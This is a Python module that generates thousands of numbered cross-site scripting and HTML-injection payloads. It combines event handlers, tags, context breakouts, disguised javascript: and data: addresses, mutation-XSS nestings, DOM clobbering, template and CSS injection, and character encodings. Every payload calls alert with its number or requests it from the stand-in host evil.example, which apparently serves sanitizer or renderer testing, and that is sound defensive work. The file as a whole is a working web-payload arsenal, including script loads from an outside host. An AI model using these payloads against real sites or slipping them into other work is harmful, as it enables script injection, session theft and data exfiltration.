"""Texts that run a script, or ask another server, where a page takes them for markup.

Made systematically: handlers x elements x quoting x encoding, breakouts x vectors, schemes x
disguises x the places of an address, mutations, clobbering, and what ends a string or a comment in
a script. Each calls `alert` with its own number, or asks `evil.example` for it, so that whatever
runs names its payload.
"""

import itertools
from collections.abc import Iterator

#: What runs, and what is asked for; both get the number of the payload.
RUN, OUT = "{run}", "{out}"

EVENTS = [
    "abort", "afterprint", "animationcancel", "animationend", "animationiteration",
    "animationstart", "auxclick", "beforecopy", "beforecut", "beforeinput", "beforematch",
    "beforepaste", "beforeprint", "beforescriptexecute", "beforetoggle", "beforeunload", "begin",
    "blur", "bounce", "cancel", "canplay", "canplaythrough", "change", "click", "close",
    "contentvisibilityautostatechange", "contextmenu", "copy", "cuechange", "cut", "dblclick",
    "drag", "dragend", "dragenter", "dragexit", "dragleave", "dragover", "dragstart", "drop",
    "durationchange", "end", "ended", "error", "finish", "focus", "focusin", "focusout",
    "formdata", "fullscreenchange", "gesturestart", "gotpointercapture", "hashchange", "input",
    "invalid", "keydown", "keypress", "keyup", "load", "loadeddata", "loadedmetadata", "loadend",
    "loadstart", "lostpointercapture", "message", "mousedown", "mouseenter", "mouseleave",
    "mousemove", "mouseout", "mouseover", "mouseup", "mousewheel", "pagehide", "pageshow", "paste",
    "pause", "play", "playing", "pointercancel", "pointerdown", "pointerenter", "pointerleave",
    "pointermove", "pointerout", "pointerover", "pointerrawupdate", "pointerup", "popstate",
    "progress", "propertychange", "ratechange", "readystatechange", "repeat", "reset", "resize",
    "scroll", "scrollend", "scrollsnapchange", "search", "securitypolicyviolation", "seeked",
    "seeking", "select", "selectionchange", "selectstart", "show", "slotchange", "stalled",
    "start", "storage", "submit", "suspend", "timeupdate", "toggle", "touchcancel", "touchend",
    "touchmove", "touchstart", "transitioncancel", "transitionend", "transitionrun",
    "transitionstart", "unhandledrejection", "unload", "volumechange", "waiting",
    "webkitanimationend", "webkittransitionend", "wheel",
]  # fmt: skip
TAGS = [
    "a href=#", "audio controls", "b", "body", "button", "details open", "div", "form", "iframe",
    "img src=x", "input autofocus", "marquee", "object data=x", "p", "select autofocus",
    "span tabindex=1", "svg", "svg><animate attributeName=x dur=1s", "table", "textarea autofocus",
    "video autoplay", "x contenteditable", "xss id=x tabindex=1", "custom-element",
]  # fmt: skip

#: Run by themselves, or would.
VECTORS = [
    "<script>{run}</script>", "<script>{run}//", "<script/{out}>{run}</script>",
    "<script src={out}></script>", "<script src=data:,{run}></script>",
    "<script type=module>{run}</script>", "<script type=text/javascript>{run}</script>",
    "<script\n>{run}</script\n>", "<script x=1>{run}</script x>", "<script>eval('{run}')</script>",
    "<img src=x onerror={run}>", "<img src onerror={run}>", "<img/src=x/onerror={run}>",
    "<img src=x:x onerror={run}>", "<image src=x onerror={run}>", "<img srcset=x onerror={run}>",
    "<img src=data:, onerror={run}>", "<picture><source srcset=x><img onerror={run}></picture>",
    "<svg onload={run}>", "<svg/onload={run}>", "<svg><script>{run}</script></svg>",
    "<svg><script href=data:,{run} />", "<svg><script xlink:href=data:,{run}></script>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set onbegin={run} attributeName=x>", "<svg><animateTransform onbegin={run}>",
    "<svg><foreignObject><img src=x onerror={run}>",
    "<svg><style><img src=x onerror={run}></style></svg>", "<svg><title><img src=x onerror={run}>",
    "<svg><desc><img src=x onerror={run}>", "<svg><image href=x onerror={run}>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image"
    " href='x' onerror='{run}'/></svg>#x\">",
    "<math><mtext><img src=x onerror={run}></mtext></math>", "<body onload={run}>",
    "<body onpageshow={run}>", "<iframe onload={run}>", "<iframe src=javascript:parent.{run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    '<iframe srcdoc="&lt;img src=x onerror=parent.{run}&gt;"></iframe>',
    '<iframe src="data:text/html,<script>parent.{run}</script>"></iframe>',
    "<object data=javascript:{run}>", "<object onerror={run} data=x></object>",
    "<embed src=javascript:{run}>", "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>", "<textarea autofocus onfocus={run}>",
    "<button autofocus onfocus={run}>", "<details open ontoggle={run}>x</details>",
    "<video><source onerror={run}></video>", "<video src=x onerror={run}></video>",
    "<audio src=x onerror={run}>", "<audio src onloadstart={run}>",
    "<video onloadstart={run} src=x>", "<marquee onstart={run}>x</marquee>",
    "<link rel=stylesheet href=x onerror={run}>", "<style onload={run}></style>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart={run}>",
    "<x style=transition:1s onfocus={run} tabindex=1 autofocus>",
    "<template shadowrootmode=open><img src=x onerror={run}></template>",
    '<meta http-equiv=refresh content="0;url=javascript:{run}">', "<frameset onload={run}>",
    "<dialog open onclose={run}>", "<xss autofocus tabindex=1 onfocus={run}>",
    "<img src=x onerror=window['al'+'ert']`1`>", "<img src=x onerror=top.{run}>",
]  # fmt: skip
BREAKOUTS = [
    '"', "'", "`", '">', "'>", "`>", '"/>', "/>", ">", "]]>", "-->", "--!>", "<!-->", "*/", "%>",
    "?>", "</script>", "</style>", "</title>", "</textarea>", "</noscript>", "</template>",
    "</xmp>", "</iframe>", "</noembed>", "</noframes>", "</select>", "</svg>", "</math>",
    "</option></select>", "</td></tr></table>", "</figcaption></figure>", "</a>", "</button>",
    "</details>", "</body></html>", "<![CDATA[", '"}', '\\"}', "\\u0022>", "&quot;>", "&#34;>",
    "%22%3E", "\u2028", "\x00", "\ufeff",
]  # fmt: skip

_SCRIPTS = [
    "javascript:{run}", "data:text/html,<script>{run}</script>", "vbscript:{run}",
]  # fmt: skip
_DISGUISES = [
    "JaVaScRiPt:{run}", "JAVASCRIPT:{run}", " javascript:{run}", "\tjavascript:{run}",
    "\njavascript:{run}", "\rjavascript:{run}", "\x00javascript:{run}", "\x01javascript:{run}",
    "\x08javascript:{run}", "\x0bjavascript:{run}", "\x0cjavascript:{run}", "\x1fjavascript:{run}",
    "\xa0javascript:{run}", "\u2028javascript:{run}", "\u3000javascript:{run}",
    "\ufeffjavascript:{run}", "java\tscript:{run}", "java\nscript:{run}", "java\rscript:{run}",
    "j\na\nv\na\ns\nc\nr\ni\np\nt\n:{run}", "java\x00script:{run}", "javascript\t:{run}",
    "javascript\n:{run}", "javascript :{run}", "javascript&colon;{run}", "javascript&#58;{run}",
    "javascript&#x3A;{run}", "javascript&#0000058{run}", "&#106;avascript:{run}",
    "&#x6A;avascript:{run}", "&#x6a&#x61&#x76&#x61script:{run}", "java&Tab;script:{run}",
    "java&NewLine;script:{run}", "java&#9;script:{run}", "java&#10;script:{run}",
    "java&#x0D;script:{run}", "&#1;javascript:{run}", "&#14; javascript:{run}",
    "javascript%3A{run}", "%6Aavascript:{run}", "java%0Ascript:{run}", "jav\x00ascript:{run}",
    "ｊａｖａｓｃｒｉｐｔ：{run}", "javaſcript:{run}", "javascript://%0a{run}",
    "javascript:/*--></title>*/{run}", "javascript://evil.example/%0A{run}",
    "javascript:'<html>'+{run}", "javascript:void {run}", "javascript:eval('{run}')",
    "javascript:%61lert(1)", "javascript:\\u0061lert(1)", "jAvAsCrIpT&colon;{run}",
    "feed:javascript:{run}", "view-source:javascript:{run}", "livescript:{run}", "mocha:{run}",
    "jscript:{run}", "vbscript:MsgBox(1)", "VbScRiPt:{run}",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuYWxlcnQoMSk8L3NjcmlwdD4=",
    "data:text/html;charset=utf-7,+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>",
    "data:text/xml,<script xmlns='http://www.w3.org/1999/xhtml'>{run}</script>", "data:,{run}",
    "data:application/xhtml+xml,<script>{run}</script>", "data:text/html,<img src={out}>",
    "blob:null/x", "filesystem:https://evil.example/x", "about:blank#{run}", "file:///etc/passwd",
    "jar:{out}!/x", "ms-its:x", "mk:@MSITStore:x", "{out}", "//evil.example/{n}",
    "/\\evil.example/{n}", "\\\\evil.example\\{n}", "https:evil.example/{n}",
    "http:\t//evil.example/{n}",
]  # fmt: skip
ADDRESSES = [
    *_SCRIPTS, *_DISGUISES,
]  # fmt: skip
CARRIERS = [
    '<a href="{url}">go</a>', "<a href='{url}'>go</a>", "<a href={url}>go</a>",
    '<a href=# ping="{url}">go</a>', '<area href="{url}">',
    '<form action="{url}"><button>go</form>', '<form><button formaction="{url}">go</form>',
    '<form><input type=image formaction="{url}">', '<iframe src="{url}"></iframe>',
    '<object data="{url}"></object>', '<embed src="{url}">',
    '<svg><a xlink:href="{url}"><text y=20>go</text></a></svg>', '<svg><use href="{url}"></svg>',
    '<svg><a><animate attributeName=href values="{url}"></a></svg>',
    '<svg><image xlink:href="{url}"></svg>', '<math><mi xlink:href="{url}">x</mi></math>',
    '<math href="{url}">x</math>', '<base href="{url}"><a href=x>go</a>',
    '<meta http-equiv=refresh content="0;url={url}">', '<link rel=stylesheet href="{url}">',
    '<script src="{url}"></script>', '<img src="{url}">', '<video poster="{url}">',
    '<div style="background:url({url})">x</div>', '<blockquote cite="{url}">x</blockquote>',
    "[go]({url})", "![go]({url})", "[go]: {url}", "<{url}>", '[go](<{url}> "{url}")', "{url}",
]  # fmt: skip

#: Where another server is asked, without any script.
REQUESTS = [
    "<img src={url}>", "<img srcset={url}>", "<img lowsrc={url}>", "<img dynsrc={url}>",
    "<input type=image src={url}>", "<video src={url}>", "<video poster={url}>",
    "<audio src={url}>", "<track src={url}>", "<source src={url}>", "<source srcset={url}>",
    "<iframe src={url}></iframe>", "<frame src={url}>", "<embed src={url}>",
    "<object data={url}></object>", "<script src={url}></script>",
    "<link rel=stylesheet href={url}>", "<link rel=prefetch href={url}>",
    "<link rel=preload as=image href={url}>", "<link rel=modulepreload href={url}>",
    "<link rel=preconnect href={url}>", "<link rel=dns-prefetch href={url}>",
    "<link rel=icon href={url}>", "<link rel=manifest href={url}>",
    "<link rel=prerender href={url}>", "<body background={url}>", "<table background={url}>",
    "<td background={url}>", "<div style=background:url({url})>",
    "<div style='background-image:url({url})'>", "<li style=list-style:url({url})>",
    "<div style=content:url({url})>", "<style>@import '{url}';</style>",
    "<style>@import url({url});</style>", "<style>body{background:url({url})}</style>",
    "<style>@font-face{font-family:x;src:url({url})}</style><p style=font-family:x>x",
    "<style>*{cursor:url({url}),auto}</style>", "<svg><image href={url}></svg>",
    "<svg><use href={url}#x></svg>", "<svg><filter><feImage href={url}></filter></svg>",
    "<svg><script href={url}></script></svg>", "<meta http-equiv=refresh content='0;url={url}'>",
    "<base href={url}>", "<a ping={url} href=#>x</a>", "<html manifest={url}>",
    "<portal src={url}></portal>", "<applet code=x codebase={url}>", "<bgsound src={url}>",
    "<layer src={url}></layer>", "<xml src={url}>", "<form action={url}><input autofocus>",
    "<?xml-stylesheet href='{url}'?>", '<!DOCTYPE x [<!ENTITY y SYSTEM "{url}">]><p>&y;',
    "![x]({url})", "[x]: {url}\n\n![x][x]", "<img src='{url}' crossorigin>", "<image href={url}>",
    "<svg xml:base={url}>",
]  # fmt: skip
HOSTS = [
    "{out}", "http://evil.example/{n}", "//evil.example/{n}", "/\\evil.example/{n}",
    "https:\\\\evil.example\\{n}", "ftp://evil.example/{n}", "\thttps://evil.example/{n}",
    "https://evil.example:443/{n}?{n}#x",
]  # fmt: skip

#: What a second parsing turns into something else; `{inner}` is another vector.
MUTATIONS = [
    "<math><mtext><table><mglyph><style><!--</style>{inner}",
    "<math><mtext><table><mglyph><style><![CDATA[</style>{inner}]]>",
    '<svg></p><style><a id="</style>{inner}">', '<svg><p><style><g title="</style>{inner}">',
    "<form><math><mtext></form><form><mglyph><style></math>{inner}",
    '<noscript><p title="</noscript>{inner}">', '<noembed><p title="</noembed>{inner}">',
    "<template><style></template>{inner}", '<textarea><p title="</textarea>{inner}">',
    '<title><p title="</title>{inner}">', '<xmp><p title="</xmp>{inner}">',
    '<style><p title="</style>{inner}">', '<iframe><p title="</iframe>{inner}">',
    '<noframes><p title="</noframes>{inner}">', '<!--<p title="-->{inner}">',
    "<listing>&lt;/listing&gt;{inner}</listing>", "<select><style></select>{inner}",
    "<select><template>{inner}</template>", "<table><td><svg><desc><td>{inner}",
    "<svg><foreignobject><math><mi></foreignobject>{inner}",
    "<math><annotation-xml encoding=text/html>{inner}</annotation-xml>",
    "<svg><![CDATA[><{inner}]]>", "<a title='`'>`{inner}`</a>", '<img alt="``onerror={run}">',
    "<p id='\"onclick={run}'>", "<x/><title>&lt;/title&gt;{inner}", "<plaintext>{inner}",
    "<frameset><noframes>{inner}", "<table><caption><svg><desc></caption>{inner}",
    "<div><option><p></option>{inner}", "<!doctype><!--x--!>{inner}", "<? ><{inner}?>",
    "<!x>{inner}", "</x {inner}>", "<script><!--<script></script>{inner}",
    "<style><style/>{inner}", "<dialog open><p>{inner}",
]  # fmt: skip
INNER = [
    "<img src=x onerror={run}>", "<script>{run}</script>", "<svg onload={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'>", "<a href=javascript:{run}>x</a>",
    "<style>@import '{out}'</style>", "<img src={out}>", "<details open ontoggle={run}>x",
]  # fmt: skip

STRINGS = [
    '"-{run}-"', "'-{run}-'", "`-{run}-`", '";{run}//', "';{run}//", "\\';{run}//", '\\";{run}//',
    "${{run}}", "*/{run}/*", "\u2028{run}//", "\u2029{run}//", "]}-{run}//", "};{run};{",
    "\\x3c/script>{run}", "</script><script>{run}</script>", "</ScRiPt ><ScRiPt>{run}</sCrIpT >",
    "<!--<script>{run}", "--><script>{run}</script>", "<\\/script><script>{run}</script>",
    "\\u003c/script\\u003e{run}",
]  # fmt: skip
KEYS = [
    "__proto__", "constructor", "prototype", "toString", "valueOf", "innerHTML", "textContent",
    "srcdoc", "onerror", "hasOwnProperty", "__defineGetter__", "then", "toJSON", "length", "links",
]  # fmt: skip
NAMES = [
    "data", "article", "links", "matrix", "threshold", "panel", "shown", "count", "level", "cells",
    "frame", "title", "status", "problem", "policy", "page", "parent", "body", "head", "cookie",
    "forms", "defaultView", "getElementById", "createElement", "querySelectorAll", "attributes",
    "parentNode", "location", "sentence-1", "image-1",
]  # fmt: skip
CLOBBERS = [
    "<a id={name}></a><a id={name} name=textContent href=javascript:{run}></a>",
    "<form id={name}><input name=textContent value='{run}'></form>", "<img name={name}>",
    "<iframe name={name} srcdoc='<a id=x href={out}>'></iframe>",
    "<form name={name}><output id=value>",
]  # fmt: skip
TEMPLATES = [
    "{{constructor.constructor('{run}')()}}", "{{$on.constructor('{run}')()}}", "[[{run}]]",
    "<%= {run} %>", "#{{run}}", "{{{run}}}", "{%raw%}{run}{%endraw%}", "@({run})",
    "<x v-html=\"'{run}'\">", "<div ng-app>{{{run}}}", "<x @click={run}>", "<p x-init={run}>",
    "<a hx-on:load={run}>", "{!{run}!}", "$({run})", "~{{run}}",
]  # fmt: skip
STYLES = [
    "width:expression({run})", "-moz-binding:url({out}#x)", "behavior:url({out})",
    "xss:expr/*x*/ession({run})", "background:url('javascript:{run}')",
    "background:\\75\\72\\6c({out})", "list-style-image:url({out})",
    "content:'\\3c script\\3e{run}'", "}*{background:url({out})}", "@import'{out}'",
    "color:red;}</style><script>{run}", "animation:x;--x:url({out})", "src:image-set('{out}' 1x)",
]  # fmt: skip
_ODD = [
    "\x00", "\t", "\n", "\x0b", "\x0c", "\r", "/", " ", "\x1f", "\xa0", "\u200b", "\u2028",
    "\u3000", "\ufeff", "\x7f",
]  # fmt: skip


def _encoded(text: str) -> Iterator[str]:
    """The same text as an address, an entity, an escape of a script or an old encoding has it."""
    yield "".join(f"%{ord(c):02x}" if c in "<>\"'= " else c for c in text)
    yield "".join(f"%25{ord(c):02x}" if c in "<>\"'= " else c for c in text)
    for form in (
        "&#{};",
        "&#{:07d}",
        "&#x{:x};",
        "&#X{:X}",
        "\\x{:02x}",
        "\\u{:04x}",
        "\\{:03o}",
        "={:02X}",
    ):
        yield "".join(form.format(ord(c)) if c in "<>\"'" else c for c in text)
    yield text.replace("<", "&lt").replace(">", "&gt")
    yield text.replace("<", "&LT;").replace(">", "&GT;")
    yield text.replace("<", "&amp;lt;").replace(">", "&amp;gt;")
    yield text.replace("<", "+ADw-").replace(">", "+AD4-")
    yield text.translate({ord(c): 0xFEE0 + ord(c) for c in "<>\"'="})
    yield text.replace("<", "\u00c0\u00bc").replace(">", "\u00c0\u00be")
    yield text.swapcase().replace("{RUN}", RUN).replace("{OUT}", OUT)


def _quoted(tag: str, event: str) -> Iterator[str]:
    yield f"<{tag} on{event}={RUN}>x"
    yield f'<{tag} ON{event.upper()}="{RUN}"/>'


def templates() -> Iterator[str]:
    """All of them, some twice; `{run}`, `{out}` and `{n}` are still to be filled in."""
    for tag, event in itertools.product(TAGS, EVENTS):
        yield from itertools.islice(
            _quoted(tag, event), 1 + (tag.startswith(("img", "svg", "input")))
        )
    for first, vector in itertools.product(["", *BREAKOUTS], VECTORS):
        yield first + vector
    for carrier, url in itertools.product(CARRIERS, ADDRESSES):
        yield carrier.replace("{url}", url)
    for request, host in itertools.product(REQUESTS, HOSTS):
        yield request.replace("{url}", host)
    for outer, inner in itertools.product(MUTATIONS, INNER):
        yield outer.replace("{inner}", inner)
    for vector in [*VECTORS, *INNER]:
        yield from _encoded(vector)
    for key, text in itertools.product(KEYS, STRINGS):
        yield f'{{"{key}": "{text}"}}'
    for first, text in itertools.product(["", '{"a":"', "var a='", "//", "<!--"], STRINGS):
        yield first + text
    for name, clobber in itertools.product(NAMES, CLOBBERS):
        yield clobber.replace("{name}", name)
    yield from TEMPLATES
    for style in STYLES:
        for form in ('<p style="%s">x', "<p style='%s'>x", "<style>p{%s}</style>", "%s"):
            yield form % style
    for vector, odd in itertools.product(
        ("<img src=x onerror={run}>", "<script>{run}</script>"), _ODD
    ):
        for place in range(1, vector.index(RUN)):
            yield vector[:place] + odd + vector[place:]


def numbered(template: str, number: int) -> str:
    """A payload that says its number when it runs or is asked for."""
    filled = template.replace(RUN, f"alert({number})").replace(
        OUT, f"https://evil.example/{number}"
    )
    return filled.replace("{n}", str(number))


def payloads(every: int = 1) -> list[str]:
    """All distinct payloads, or one of so many; the place in the list of all is the number."""
    return [
        numbered(text, n) for n, text in enumerate(dict.fromkeys(templates())) if n % every == 0
    ]
